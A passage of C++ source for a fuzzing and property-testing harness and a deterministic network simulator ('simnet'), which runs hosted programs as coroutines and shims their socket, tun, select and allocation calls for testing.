			for (int k = 0; k < w; k++) { v <<= 8; if (bpos < nbytes) v |= bytes[bpos++]; }
			return v;
		}
		uint32_t v = pos < in.size() ? in[pos] : 0;
		pos++;
		return rawmode ? scramble(v) : v;
	}
	// uniform in [0,n)
	uint32_t below(uint32_t n)
	{
		if (n <= 1) return 0;   // no choice: consumes nothing and records nothing (keeps replay tapes aligned)
		uint32_t v = raw(n) % n;
		used.push_back(v); widths.push_back(n <= 256 ? 1 : (n <= 65536 ? 2 : 4));
		return v;
	}
	int range(int lo, int hi) { return lo + (int)below((uint32_t)(hi - lo + 1)); }
	bool chance(uint32_t num, uint32_t den) { return below(den) >= den - num; } // 0 -> false (default)
	uint32_t u32() { uint32_t v = raw(0xffffffffu); used.push_back(v); widths.push_back(4); return v; }
	// the case as libFuzzer input bytes (byte mode reads exactly these values back)
	Bytes as_bytes() const { Bytes b; for (size_t i = 0; i < used.size(); i++) for (int k = widths[i] - 1; k >= 0; k--) b.push_back((uint8_t)(used[i] >> (8 * k))); return b; }
	// weighted pick; index 0 is the default when the tape is exhausted
	size_t pick(std::initializer_list<uint32_t> w)
	{
		uint32_t tot = 0; for (uint32_t x : w) tot += x;
		uint32_t v = below(tot); size_t i = 0;
		for (uint32_t x : w) { if (v < x) return i; v -= x; i++; }
		return 0;
	}
	template <class T> const T &oneof(const std::vector<T> &v) { return v[below((uint32_t)v.size())]; }
	// payload bytes: content class chosen from the tape
	Bytes bytes_of(size_t n)
	{
		Bytes b(n);
		switch (below(6)) {
		case 0: { uint32_t s = u32() | 1; for (size_t i = 0; i < n; i++) { s ^= s << 13; s ^= s >> 17; s ^= s << 5; b[i] = (uint8_t)(s >> 11); } break; }
		case 1: for (auto &x : b) x = 0; break;
		case 2: for (auto &x : b) x = 0xff; break;
		case 3: { uint8_t s = (uint8_t)below(256), d = (uint8_t)below(256); for (size_t i = 0; i < n; i++) b[i] = (uint8_t)(s + d * i); break; }
		case 4: { size_t m = 1 + below(7); Bytes p(m); for (auto &x : p) x = (uint8_t)below(256); for (size_t i = 0; i < n; i++) b[i] = p[i % m]; break; }
		default: for (size_t i = 0; i < n; i++) b[i] = i < 48 ? (uint8_t)below(256) : (uint8_t)(b[i - 48] + 1); break;
		}
		return b;
	}
};

struct CaseResult {
	bool ok = true;
	std::string why;          // oracle rule that failed + facts
	std::string signature;    // root-cause shaped id of the failure (for known findings)
	bool nontrivial = false;
	std::vector<std::string> classes;
	std::string render;       // human readable description of the case
	void fail(const std::string &sig, const std::string &w) { if (ok) { ok = false; signature = sig; why = w; } }
	void cls(const std::string &c) { classes.push_back(c); }
};

struct Stats {
	uint64_t evaluations = 0;
	uint64_t nontrivial = 0;
	std::set<uint64_t> nontrivial_hashes;
	std::map<std::string, uint64_t> classes;
	std::vector<std::string> samples_nt, samples_tr;
	std::map<std::string, std::string> extra;   // free-form key -> json value
	bool exhaustive = false;
	uint64_t n_seen_nt = 0, n_seen_tr = 0;
	void add(const CaseResult &r, const Tape &t);
	void add_enum(uint64_t hash, bool nontrivial, const char *cls); // for enumerators
	void sample(const std::string &s, bool nt);
	bool write(const std::string &path, const std::string &fail_json) const;
};

uint64_t fnv(const void *p, size_t n, uint64_t h = 1469598103934665603ULL);
std::string json_escape(const std::string &s);
std::string hexs(const Bytes &b, size_t max = 96);

struct PropDef {
	std::string id;
	std::function<CaseResult(Tape &)> run;        // one generated case
	std::function<bool(Stats &, std::string &)> exhaustive; // optional enumerated part; false + message on violation
	double tape_scale = 4.0;                      // tape length <= tape_scale * rapidcheck size
	unsigned case_timeout_s = 0;                  // wall-clock watchdog per case (0 = none): a case that normally takes milliseconds and
	                                              // exceeds this is reported as CASE-TIMEOUT (the driver re-runs it three times before believing it)
	int max_size = 100;
};

// enumerators may be split over processes: this process handles part enum_part of enum_parts
extern int enum_part, enum_parts;

// search / replay / enum dispatcher; returns process exit code
int harness_main(int argc, char **argv, PropDef &def);

bool read_tape_file(const std::string &path, std::vector<uint32_t> &out, Bytes &rawbytes, bool &is_bytes, bool *is_raw = nullptr);
void write_tape_file(const std::string &path, const std::vector<uint32_t> &t, const std::string &comment);

} // namespace hz
