// simnet.cc -- see simnet.h / DESIGN.md 2.2
#include "simnet.h"
#define SIM_SHIM_NO_MACROS
#include "../shim/sim_shim.h"
#include <cstdio>
#include <cstdlib>
#include <cstdarg>
#include <cassert>
#include <algorithm>
#include <getopt.h>
#include <sys/mman.h>

#if defined(__has_feature)
#if __has_feature(address_sanitizer)
#define SIM_ASAN 1
#endif
#endif
#ifdef __SANITIZE_ADDRESS__
#define SIM_ASAN 1
#endif

#ifdef SIM_ASAN
extern "C" {
void __sanitizer_start_switch_fiber(void **fake_stack_save, const void *bottom, size_t size);
void __sanitizer_finish_switch_fiber(void *fake_stack_save, const void **bottom_old, size_t *size_old);
void __asan_unpoison_memory_region(void const volatile *addr, size_t size);
}
#endif

namespace sim {

World W;

static ucontext_t main_ctx;
static void *main_fake = nullptr;
static const void *main_stack_bottom = nullptr;
static size_t main_stack_size = 0;
static std::vector<std::pair<char *, size_t>> stack_pool;
static const size_t STACK_SIZE = 8u << 20;

// ---------------------------------------------------------------- Addr
Addr Addr::v4(uint8_t a, uint8_t b, uint8_t c, uint8_t d, uint16_t port)
{
	Addr r; r.family = AF_INET; r.ip[0] = a; r.ip[1] = b; r.ip[2] = c; r.ip[3] = d; r.port = port; return r;
}
Addr Addr::v6(const uint8_t ip16[16], uint16_t port)
{
	Addr r; r.family = AF_INET6; memcpy(r.ip, ip16, 16); r.port = port; return r;
}
Addr Addr::from_sockaddr(const struct sockaddr *sa, socklen_t len)
{
	Addr r;
	if (!sa || len < sizeof(sa_family_t)) return r;
	if (sa->sa_family == AF_INET && len >= sizeof(struct sockaddr_in)) {
		const struct sockaddr_in *s = (const struct sockaddr_in *)sa;
		r.family = AF_INET; memcpy(r.ip, &s->sin_addr, 4); r.port = ntohs(s->sin_port);
	} else if (sa->sa_family == AF_INET6 && len >= sizeof(struct sockaddr_in6)) {
		const struct sockaddr_in6 *s = (const struct sockaddr_in6 *)sa;
		r.family = AF_INET6; memcpy(r.ip, &s->sin6_addr, 16); r.port = ntohs(s->sin6_port);
	}
	return r;
}
socklen_t Addr::to_sockaddr(struct sockaddr_storage *ss) const
{
	memset(ss, 0, sizeof(*ss));
	if (family == AF_INET6) {
		struct sockaddr_in6 *s = (struct sockaddr_in6 *)ss;
		s->sin6_family = AF_INET6; memcpy(&s->sin6_addr, ip, 16); s->sin6_port = htons(port);
		return sizeof(*s);
	}
	struct sockaddr_in *s = (struct sockaddr_in *)ss;
	s->sin_family = AF_INET; memcpy(&s->sin_addr, ip, 4); s->sin_port = htons(port);
	return sizeof(*s);
}
bool Addr::same_ip(const Addr &o) const
{
	if (family != o.family) return false;
	return memcmp(ip, o.ip, family == AF_INET6 ? 16 : 4) == 0;
}
bool Addr::operator<(const Addr &o) const
{
	if (family != o.family) return family < o.family;
	int c = memcmp(ip, o.ip, 16);
	if (c) return c < 0;
	return port < o.port;
}
bool Addr::is_wild() const
{
	for (int i = 0; i < (family == AF_INET6 ? 16 : 4); i++) if (ip[i]) return false;
	return true;
}
std::string Addr::str() const
{
	char b[80];
	if (family == AF_INET) snprintf(b, sizeof b, "%u.%u.%u.%u:%u", ip[0], ip[1], ip[2], ip[3], port);
	else if (family == AF_INET6) {
		char t[64]; inet_ntop(AF_INET6, ip, t, sizeof t); snprintf(b, sizeof b, "[%s]:%u", t, port);
	} else snprintf(b, sizeof b, "unset");
	return b;
}

std::string hex(const Bytes &b, size_t max)
{
	static const char *d = "0123456789abcdef";
	std::string s;
	for (size_t i = 0; i < b.size() && i < max; i++) { s += d[b[i] >> 4]; s += d[b[i] & 15]; }
	if (b.size() > max) { char t[32]; snprintf(t, sizeof t, "..(%zu)", b.size()); s += t; }
	return s;
}
Bytes from_string(const std::string &s) { return Bytes(s.begin(), s.end()); }

ImageRegion *make_image(char *ds, char *de, char *bs, char *be)
{
	ImageRegion *r = new ImageRegion();
	r->data_start = ds; r->data_stop = de; r->bss_start = bs; r->bss_stop = be;
	return r;
}

// ---------------------------------------------------------------- raw memory helpers (no sanitizer: they walk over redzones)
__attribute__((no_sanitize("address", "undefined")))
static void raw_copy(char *dst, const char *src, size_t n)
{
	volatile char *d = dst; const volatile char *s = src;
	for (size_t i = 0; i < n; i++) d[i] = s[i];
}
__attribute__((no_sanitize("address", "undefined")))
static void raw_zero(char *dst, size_t n)
{
	volatile char *d = dst;
	for (size_t i = 0; i < n; i++) d[i] = 0;
}

static void image_snapshot(ImageRegion *im)
{
	if (!im || im->have_snapshot) return;
	size_t n = im->data_stop - im->data_start;
	im->snapshot.resize(n);
	raw_copy(im->snapshot.data(), im->data_start, n);
	im->have_snapshot = true;
}
static void image_restore(ImageRegion *im)
{
	if (!im) return;
	if (!im->have_snapshot) { image_snapshot(im); }
	raw_copy(im->data_start, im->snapshot.data(), im->snapshot.size());
	raw_zero(im->bss_start, im->bss_stop - im->bss_start);
}

// ---------------------------------------------------------------- allocation tracking (strdup / calloc / free inside the programs)
struct AllocHdr { AllocHdr *prev, *next; Instance *owner; uint64_t magic; size_t size; size_t pad; };
static const uint64_t ALLOC_MAGIC = 0x51ab51ab51ab51abULL;
static AllocHdr *orphan_head = nullptr;  // allocations made outside any instance (unit shape)

// Large blocks (the server's users[] table is ~6.5 MB) are recycled instead of being returned to the
// sanitizer allocator: mmap/munmap + shadow poisoning of such blocks would dominate the cost of a case.
static const size_t BIG = 1u << 20;
static std::vector<std::pair<size_t, AllocHdr *>> big_pool;

static void *tracked_alloc(size_t n, bool zero)
{
	AllocHdr *h = nullptr;
	if (n >= BIG) {
		for (size_t k = 0; k < big_pool.size(); k++)
			if (big_pool[k].first == n) { h = big_pool[k].second; big_pool.erase(big_pool.begin() + k); break; }
	}
	if (!h) h = (AllocHdr *)malloc(sizeof(AllocHdr) + n);
	if (!h) abort();
	if (zero) memset(h + 1, 0, n);
	h->magic = ALLOC_MAGIC;
	h->size = n;
	h->owner = W.current;
	AllocHdr **head = W.current ? (AllocHdr **)&W.current->alloc_head : &orphan_head;
	h->prev = nullptr; h->next = *head;
	if (*head) (*head)->prev = h;
	*head = h;
	return h + 1;
}
static void release_block(AllocHdr *h)
{
	h->magic = 0;
	if (h->size >= BIG && big_pool.size() < 8) big_pool.push_back(std::make_pair(h->size, h));
	else free(h);
}
static void tracked_free(void *p)
{
	if (!p) return;
	AllocHdr *h = ((AllocHdr *)p) - 1;
	if (h->magic != ALLOC_MAGIC) { fprintf(stderr, "simnet: free() of untracked pointer\n"); abort(); }
	AllocHdr **head = h->owner ? (AllocHdr **)&h->owner->alloc_head : &orphan_head;
	if (h->prev) h->prev->next = h->next; else *head = h->next;
	if (h->next) h->next->prev = h->prev;
	release_block(h);
}
static void free_all(Instance *i)
{
	AllocHdr *h = (AllocHdr *)i->alloc_head;
	while (h) { AllocHdr *n = h->next; release_block(h); h = n; }
	i->alloc_head = nullptr;
}

// ---------------------------------------------------------------- coroutines
static void switch_to_main(bool dying)
{
	Instance *me = W.current;
#ifdef SIM_ASAN
	void *fake = nullptr;
	__sanitizer_start_switch_fiber(dying ? nullptr : &fake, main_stack_bottom, main_stack_size);
#endif
	swapcontext(&me->ctx, &main_ctx);
#ifdef SIM_ASAN
	__sanitizer_finish_switch_fiber(fake, &main_stack_bottom, &main_stack_size);
#endif
}

static void inst_trampoline(void)
{
#ifdef SIM_ASAN
	__sanitizer_finish_switch_fiber(nullptr, &main_stack_bottom, &main_stack_size);
#endif
	Instance *me = W.current;
	optind = 0; /* full getopt re-initialisation (glibc) */
	int rc = me->entry((int)me->argv.size() - 1, me->argv.data());
	me->exit_code = rc;
	me->exited_by_return = true;
	me->state = ST_EXITED;
	switch_to_main(true);
	abort();
}

static void resume(Instance *i)
{
	W.current = i;
	W.resumes++;
	if (i->state == ST_NEW) {
		if (stack_pool.empty()) {
			char *s = (char *)mmap(nullptr, STACK_SIZE, PROT_READ | PROT_WRITE,
					       MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
			if (s == MAP_FAILED) abort();
			i->stack = s; i->stack_size = STACK_SIZE;
		} else {
			i->stack = stack_pool.back().first; i->stack_size = stack_pool.back().second;
			stack_pool.pop_back();
		}
#ifdef SIM_ASAN
		__asan_unpoison_memory_region(i->stack, i->stack_size);
#endif
		getcontext(&i->ctx);
		i->ctx.uc_stack.ss_sp = i->stack;
		i->ctx.uc_stack.ss_size = i->stack_size;
		i->ctx.uc_link = nullptr;
		makecontext(&i->ctx, inst_trampoline, 0);
	}
	i->state = ST_RUNNABLE;
#ifdef SIM_ASAN
	__sanitizer_start_switch_fiber(&main_fake, i->stack, i->stack_size);
#endif
	swapcontext(&main_ctx, &i->ctx);
#ifdef SIM_ASAN
	__sanitizer_finish_switch_fiber(main_fake, nullptr, nullptr);
#endif
	W.current = nullptr;
	if (W.on_block && i->state != ST_EXITED) W.on_block(i);
}

// ---------------------------------------------------------------- World
Instance *World::add_instance(const std::string &name, int (*entry)(int, char **),
			      ImageRegion *image, const std::vector<std::string> &args,
			      Addr host4, Addr host6, uint32_t rand_seed)
{
	Instance *i = new Instance();
	i->idx = (int)inst.size();
	i->name = name; i->entry = entry; i->image = image; i->args = args;
	i->host4 = host4; i->host6 = host6;
	i->rand_seed = rand_seed ? rand_seed : 1; i->rand_state = i->rand_seed;
	i->next_fd = 10 + 40 * i->idx;
	for (auto &a : i->args) {
		char *s = (char *)malloc(a.size() + 1);
		memcpy(s, a.c_str(), a.size() + 1);
		i->argv_store.push_back(s); i->argv.push_back(s);
	}
	i->argv.push_back(nullptr);
	if (image) image_restore(image);
	inst.push_back(i);
	return i;
}

void World::reset()
{
	for (Instance *i : inst) {
		free_all(i);
		for (char *s : i->argv_store) free(s);
		if (i->stack) stack_pool.push_back(std::make_pair(i->stack, i->stack_size));
		if (i->image) image_restore(i->image);
		delete i;
	}
	inst.clear();
	while (!events.empty()) events.pop();
	actors.clear();
	now = 0; seq = 0; serial = 0; current = nullptr;
	latency_us = 1000;
	router = nullptr; on_send = nullptr; on_deliver = nullptr; on_recv = nullptr; on_tun_write = nullptr;
	on_tun_read = nullptr; on_system = nullptr; on_block = nullptr;
	residue_mode = 1; residue_byte = 0xA5; residue_data.clear();
	resumes = 0; resumes_same_time = 0; livelock = false; dropped_no_endpoint = 0;
}

void World::schedule(uint64_t t, std::function<void()> fn)
{
	Event e; e.t = t < now ? now : t; e.seq = seq++; e.fn = std::move(fn);
	events.push(std::move(e));
}

static bool fd_ready(Instance *i, int fd)
{
	auto it = i->fds.find(fd);
	if (it == i->fds.end()) return false;
	if (it->second.kind == 1) return !it->second.sock.rx.empty();
	if (it->second.kind == 2) return !i->tun_in.empty();
	return false;
}

static int select_ready(Instance *i, bool commit)
{
	int n = 0;
	fd_set out; FD_ZERO(&out);
	if (i->sel_r) {
		for (int fd = 0; fd < i->sel_nfds; fd++)
			if (FD_ISSET(fd, i->sel_r) && fd_ready(i, fd)) { FD_SET(fd, &out); n++; }
	}
	if (commit && i->sel_r) *i->sel_r = out;
	return n;
}

bool World::step()
{
	// 1. a runnable instance?
	for (Instance *i : inst) {
		bool run = false;
		switch (i->state) {
		case ST_NEW: run = true; break;
		case ST_SELECT:
			if (select_ready(i, false) > 0) { i->sel_ret = select_ready(i, true); run = true; }
			else if (i->wake_at <= now) { if (i->sel_r) FD_ZERO(i->sel_r); i->sel_ret = 0; run = true; }
			break;
		case ST_SLEEP: run = i->wake_at <= now; break;
		default: break;
		}
		if (run) {
			if (++resumes_same_time > 200000) { livelock = true; return false; }
			resume(i);
			return true;
		}
	}
	return false;
}

void World::run_until(uint64_t t_end)
{
	for (;;) {
		if (livelock) return;
		if (step()) continue;
		uint64_t next = UINT64_MAX;
		if (!events.empty()) next = events.top().t;
		for (Instance *i : inst)
			if ((i->state == ST_SELECT || i->state == ST_SLEEP) && i->wake_at < next) next = i->wake_at;
		if (next == UINT64_MAX || next > t_end) { if (t_end > now) { now = t_end; resumes_same_time = 0; } return; }
		if (next > now) { now = next; resumes_same_time = 0; }
		if (!events.empty() && events.top().t <= now) {
			Event e = events.top(); events.pop();
			e.fn();
		}
	}
}

Instance *World::find_instance_for(const Addr &dst, int *fd_out)
{
	for (Instance *i : inst) {
		if (i->state == ST_EXITED) continue;
		for (auto &kv : i->fds) {
			if (kv.second.kind != 1 || !kv.second.sock.bound) continue;
			Socket &s = kv.second.sock;
			if (s.family != dst.family || s.local.port != dst.port) continue;
			bool ipok;
			if (s.local.is_wild()) ipok = dst.same_ip(dst.family == AF_INET ? i->host4 : i->host6);
			else ipok = s.local.same_ip(dst);
			if (ipok) { if (fd_out) *fd_out = kv.first; return i; }
		}
	}
	return nullptr;
}

void World::deliver(const Datagram &dg)
{
	auto a = actors.find(dg.dst);
	if (a != actors.end()) { ActorFn fn = a->second; fn(dg); return; }
	int fd = -1;
	Instance *i = find_instance_for(dg.dst, &fd);
	if (!i) { dropped_no_endpoint++; return; }
	i->fds[fd].sock.rx.push_back(dg);
	if (on_deliver) on_deliver(dg, i);
}

void World::deliver_after(const Datagram &dg, uint64_t dt)
{
	Datagram copy = dg;
	schedule(now + dt, [this, copy]() { deliver(copy); });
}

void World::send(const Datagram &dg_in)
{
	Datagram dg = dg_in;
	if (!dg.serial) dg.serial = ++serial;
	if (on_send) on_send(dg);
	if (router) router(dg); else deliver_after(dg, latency_us);
}

void World::offer_tun(Instance *i, const Bytes &pkt) { i->tun_in.push_back(pkt); }

static void ilog(const char *fmt, va_list ap, bool nl)
{
	if (!W.keep_logs) return;
	Instance *i = W.current;
	if (!i) return;
	char buf[1024];
	vsnprintf(buf, sizeof buf, fmt, ap);
	if (i->log.size() > 16384) i->log.erase(0, 8192);
	i->log += buf;
	if (nl) i->log += '\n';
}

static void block_current()
{
	switch_to_main(false);
}

static void fill_residue(void *buf, size_t n, size_t cap)
{
	if (cap <= n || W.residue_mode == 0) return;
	uint8_t *p = (uint8_t *)buf;
	if (W.residue_mode == 1 || W.residue_data.empty()) memset(p + n, W.residue_byte, cap - n);
	else {
		size_t m = W.residue_data.size();
		for (size_t k = n; k < cap; ) {
			size_t c = std::min(m, cap - k);
			memcpy(p + k, W.residue_data.data(), c);
			k += c;
		}
	}
}

} // namespace sim

using namespace sim;

static Instance *cur()
{
	if (!W.current) { fprintf(stderr, "simnet: OS call outside an instance\n"); abort(); }
	return W.current;
}

extern "C" {

int sim_socket(int domain, int type, int protocol)
{
	(void)type; (void)protocol;
	Instance *i = cur();
	int fd = i->next_fd++;
	FdEntry e; e.kind = 1; e.sock.family = domain;
	i->fds[fd] = e;
	return fd;
}

int sim_bind(int fd, const struct sockaddr *addr, socklen_t len)
{
	Instance *i = cur();
	auto it = i->fds.find(fd);
	if (it == i->fds.end() || it->second.kind != 1) { errno = EBADF; return -1; }
	Addr a = Addr::from_sockaddr(addr, len);
	if (a.family != it->second.sock.family) { errno = EINVAL; return -1; }
	if (a.port == 0) a.port = i->next_ephemeral++;
	it->second.sock.local = a; it->second.sock.bound = true;
	return 0;
}

int sim_setsockopt(int, int, int, const void *, socklen_t) { return 0; }
int sim_fcntl(int, int, ...) { return 0; }

int sim_open(const char *path, int, ...)
{
	Instance *i = cur();
	if (!strcmp(path, "/dev/net/tun")) {
		int fd = i->next_fd++;
		FdEntry e; e.kind = 2; i->fds[fd] = e; i->tun_fd = fd;
		return fd;
	}
	errno = ENOENT; return -1;
}

int sim_ioctl(int, unsigned long, ...) { return 0; }

ssize_t sim_read(int fd, void *buf, size_t len)
{
	Instance *i = cur();
	auto it = i->fds.find(fd);
	if (it == i->fds.end() || it->second.kind != 2) { errno = EBADF; return -1; }
	if (i->tun_in.empty()) { errno = EAGAIN; return -1; }
	Bytes p = i->tun_in.front(); i->tun_in.pop_front();
	size_t n = std::min(len, p.size());
	if (n) memcpy(buf, p.data(), n);
	fill_residue(buf, n, len);
	TunEvent ev; ev.t = W.now; ev.data = p; i->tun_reads.push_back(ev);
	if (W.on_tun_read) W.on_tun_read(i, p);
	return (ssize_t)n;
}

ssize_t sim_write(int fd, const void *buf, size_t len)
{
	Instance *i = cur();
	auto it = i->fds.find(fd);
	if (it == i->fds.end() || it->second.kind != 2) { errno = EBADF; return -1; }
	TunEvent ev; ev.t = W.now; ev.data.assign((const uint8_t *)buf, (const uint8_t *)buf + len);
	i->tun_writes.push_back(ev);
	if (W.on_tun_write) W.on_tun_write(i, ev.data);
	return (ssize_t)len;
}

int sim_close(int fd)
{
	Instance *i = cur();
	i->fds.erase(fd);
	return 0;
}

int sim_select(int nfds, fd_set *r, fd_set *w, fd_set *e, struct timeval *tv)
{
	(void)w; (void)e;
	Instance *i = cur();
	i->sel_r = r; i->sel_nfds = nfds;
	i->n_select++;
	i->sel_has_tun = (i->tun_fd >= 0 && r && i->tun_fd < nfds && FD_ISSET(i->tun_fd, r));
	if (i->sel_has_tun) i->n_select_with_tun++;
	uint64_t dt = tv ? (uint64_t)tv->tv_sec * 1000000ull + (uint64_t)tv->tv_usec : (uint64_t)3600 * 1000000ull;
	i->wake_at = W.now + dt;
	i->state = ST_SELECT;
	block_current();
	i->sel_r = nullptr;
	return i->sel_ret;
}

static ssize_t do_recv(int fd, void *buf, size_t len, Datagram *out)
{
	if (!W.current && W.capture_on) {
		if (W.feed.empty()) { errno = EAGAIN; return -1; }
		Datagram dg = W.feed.front(); W.feed.pop_front();
		size_t n = std::min(len, dg.data.size());
		if (n) memcpy(buf, dg.data.data(), n);
		fill_residue(buf, n, len);
		if (out) *out = dg;
		return (ssize_t)n;
	}
	Instance *i = cur();
	auto it = i->fds.find(fd);
	if (it == i->fds.end() || it->second.kind != 1) { errno = EBADF; return -1; }
	Socket &s = it->second.sock;
	if (s.rx.empty()) { errno = EAGAIN; return -1; }
	Datagram dg = s.rx.front(); s.rx.pop_front();
	size_t n = std::min(len, dg.data.size());
	if (n) memcpy(buf, dg.data.data(), n);
	fill_residue(buf, n, len);
	if (out) *out = dg;
	if (W.on_recv) W.on_recv(dg, i);
	return (ssize_t)n;
}

ssize_t sim_recv(int fd, void *buf, size_t len, int) { return do_recv(fd, buf, len, nullptr); }

ssize_t sim_recvfrom(int fd, void *buf, size_t len, int, struct sockaddr *from, socklen_t *fromlen)
{
	Datagram dg;
	ssize_t n = do_recv(fd, buf, len, &dg);
	if (n >= 0 && from && fromlen) {
		struct sockaddr_storage ss;
		socklen_t l = dg.src.to_sockaddr(&ss);
		socklen_t c = std::min(l, *fromlen);
		memcpy(from, &ss, c);
		*fromlen = l;
	}
	return n;
}

ssize_t sim_recvmsg(int fd, struct msghdr *msg, int)
{
	Datagram dg;
	if (msg->msg_iovlen < 1) { errno = EINVAL; return -1; }
	ssize_t n = do_recv(fd, msg->msg_iov[0].iov_base, msg->msg_iov[0].iov_len, &dg);
	if (n < 0) return n;
	if (msg->msg_name) {
		struct sockaddr_storage ss;
		socklen_t l = dg.src.to_sockaddr(&ss);
		socklen_t c = std::min(l, msg->msg_namelen);
		memcpy(msg->msg_name, &ss, c);
		msg->msg_namelen = l;
	}
	// control data: destination address (IP_PKTINFO / IPV6_PKTINFO)
	size_t room = msg->msg_controllen;
	msg->msg_controllen = 0;
	if (msg->msg_control) {
		if (dg.dst.family == AF_INET && room >= CMSG_SPACE(sizeof(struct in_pktinfo))) {
			memset(msg->msg_control, 0, CMSG_SPACE(sizeof(struct in_pktinfo)));
			msg->msg_controllen = CMSG_SPACE(sizeof(struct in_pktinfo));
			struct cmsghdr *c = CMSG_FIRSTHDR(msg);
			c->cmsg_level = IPPROTO_IP; c->cmsg_type = IP_PKTINFO;
			c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
			struct in_pktinfo pi; memset(&pi, 0, sizeof pi);
			memcpy(&pi.ipi_addr, dg.dst.ip, 4); memcpy(&pi.ipi_spec_dst, dg.dst.ip, 4);
			memcpy(CMSG_DATA(c), &pi, sizeof pi);
		} else if (dg.dst.family == AF_INET6 && room >= CMSG_SPACE(sizeof(struct in6_pktinfo))) {
			memset(msg->msg_control, 0, CMSG_SPACE(sizeof(struct in6_pktinfo)));
			msg->msg_controllen = CMSG_SPACE(sizeof(struct in6_pktinfo));
			struct cmsghdr *c = CMSG_FIRSTHDR(msg);
			c->cmsg_level = IPPROTO_IPV6; c->cmsg_type = IPV6_PKTINFO;
			c->cmsg_len = CMSG_LEN(sizeof(struct in6_pktinfo));
			struct in6_pktinfo pi; memset(&pi, 0, sizeof pi);
			memcpy(&pi.ipi6_addr, dg.dst.ip, 16);
			memcpy(CMSG_DATA(c), &pi, sizeof pi);
		}
	}
	msg->msg_flags = 0;
	return n;
}

ssize_t sim_sendto(int fd, const void *buf, size_t len, int, const struct sockaddr *to, socklen_t tolen)
{
	if (!W.current && W.capture_on) {
		Datagram dg;
		dg.dst = Addr::from_sockaddr(to, tolen);
		dg.data.assign((const uint8_t *)buf, (const uint8_t *)buf + len);
		W.captured.push_back(dg);
		return (ssize_t)len;
	}
	Instance *i = cur();
	auto it = i->fds.find(fd);
	if (it == i->fds.end() || it->second.kind != 1) { errno = EBADF; return -1; }
	Socket &s = it->second.sock;
	Datagram dg;
	dg.dst = Addr::from_sockaddr(to, tolen);
	if (dg.dst.family == 0) { errno = EINVAL; return -1; }
	if (dg.dst.family != s.family) { errno = EAFNOSUPPORT; return -1; }
	if (!s.bound) { s.local.family = s.family; s.local.port = i->next_ephemeral++; s.bound = true; }
	dg.src = s.local;
	if (dg.src.is_wild()) {
		const Addr &h = s.family == AF_INET ? i->host4 : i->host6;
		memcpy(dg.src.ip, h.ip, 16);
	}
	dg.data.assign((const uint8_t *)buf, (const uint8_t *)buf + len);
	dg.from_inst = i->idx;
	W.send(dg);
	return (ssize_t)len;
}

time_t sim_time(time_t *t)
{
	time_t v = W.wall();
	if (t) *t = v;
	return v;
}

unsigned sim_sleep(unsigned s)
{
	Instance *i = cur();
	i->wake_at = W.now + (uint64_t)s * 1000000ull;
	i->state = ST_SLEEP;
	block_current();
	return 0;
}

int sim_rand(void)
{
	Instance *i = W.current;
	static uint32_t orphan = 12345;
	if (i && !i->rand_forced.empty()) { int v = i->rand_forced.front(); i->rand_forced.pop_front(); return v; }
	uint32_t *st = i ? &i->rand_state : &orphan;
	*st = *st * 1103515245u + 12345u;
	return (int)((*st >> 1) & 0x7fffffff);
}

void sim_srand(unsigned) { if (W.current) W.current->rand_state = W.current->rand_seed; }

int sim_system(const char *cmd)
{
	if (!W.current) { W.unit_system.push_back(cmd); return 0; }   // unit shape: recorded for the caller
	Instance *i = cur();
	i->system_calls.push_back(cmd);
	if (W.on_system) W.on_system(i, cmd);
	return 0;
}

void sim_exit(int code)
{
	Instance *i = W.current;
	if (!i) { fprintf(stderr, "simnet: exit(%d) outside an instance\n", code); abort(); }
	i->exit_code = code;
	i->state = ST_EXITED;
	switch_to_main(true);
	abort();
}

void sim_err(int code, const char *fmt, ...)
{
	va_list ap; va_start(ap, fmt); ilog(fmt ? fmt : "", ap, true); va_end(ap);
	sim_exit(code);
}
void sim_errx(int code, const char *fmt, ...)
{
	va_list ap; va_start(ap, fmt); ilog(fmt ? fmt : "", ap, true); va_end(ap);
	sim_exit(code);
}
void sim_warn(const char *fmt, ...)
{
	va_list ap; va_start(ap, fmt); ilog(fmt ? fmt : "", ap, true); va_end(ap);
}
void sim_warnx(const char *fmt, ...)
{
	va_list ap; va_start(ap, fmt); ilog(fmt ? fmt : "", ap, true); va_end(ap);
}

uid_t sim_geteuid(void) { return 0; }

// the hosted programs see only the environment the scenario gave their instance (never the harness's own)
char *sim_getenv(const char *name)
{
	if (!W.current || !name) return nullptr;
	auto it = W.current->env.find(name);
	return it == W.current->env.end() ? nullptr : const_cast<char *>(it->second.c_str());
}

int sim_getaddrinfo(const char *node, const char *service, const struct addrinfo *hints, struct addrinfo **res)
{
	int fam = hints ? hints->ai_family : AF_UNSPEC;
	int port = service ? atoi(service) : 0;
	struct sockaddr_storage ss; memset(&ss, 0, sizeof ss);
	socklen_t len = 0;
	if (!node) {
		if (fam == AF_INET6) {
			struct sockaddr_in6 *s = (struct sockaddr_in6 *)&ss; s->sin6_family = AF_INET6; s->sin6_port = htons(port); len = sizeof *s;
		} else {
			struct sockaddr_in *s = (struct sockaddr_in *)&ss; s->sin_family = AF_INET; s->sin_port = htons(port); len = sizeof *s;
		}
	} else {
		struct in_addr a4; struct in6_addr a6;
		if ((fam == AF_UNSPEC || fam == AF_INET) && inet_pton(AF_INET, node, &a4) == 1) {
			struct sockaddr_in *s = (struct sockaddr_in *)&ss; s->sin_family = AF_INET; s->sin_addr = a4; s->sin_port = htons(port); len = sizeof *s;
		} else if ((fam == AF_UNSPEC || fam == AF_INET6) && inet_pton(AF_INET6, node, &a6) == 1) {
			struct sockaddr_in6 *s = (struct sockaddr_in6 *)&ss; s->sin6_family = AF_INET6; s->sin6_addr = a6; s->sin6_port = htons(port); len = sizeof *s;
		} else return EAI_NONAME;
	}
	char *mem = (char *)malloc(sizeof(struct addrinfo) + sizeof(struct sockaddr_storage));
	struct addrinfo *ai = (struct addrinfo *)mem;
	memset(ai, 0, sizeof *ai);
	ai->ai_family = ss.ss_family; ai->ai_socktype = SOCK_DGRAM; ai->ai_protocol = IPPROTO_UDP;
	ai->ai_addrlen = len; ai->ai_addr = (struct sockaddr *)(mem + sizeof(struct addrinfo));
	memcpy(ai->ai_addr, &ss, sizeof ss);
	*res = ai;
	return 0;
}
void sim_freeaddrinfo(struct addrinfo *res) { free(res); }

void *sim_calloc(size_t n, size_t sz) { return tracked_alloc(n * sz, true); }
char *sim_strdup(const char *s)
{
	size_t n = strlen(s) + 1;
	char *p = (char *)tracked_alloc(n, false);
	memcpy(p, s, n);
	return p;
}
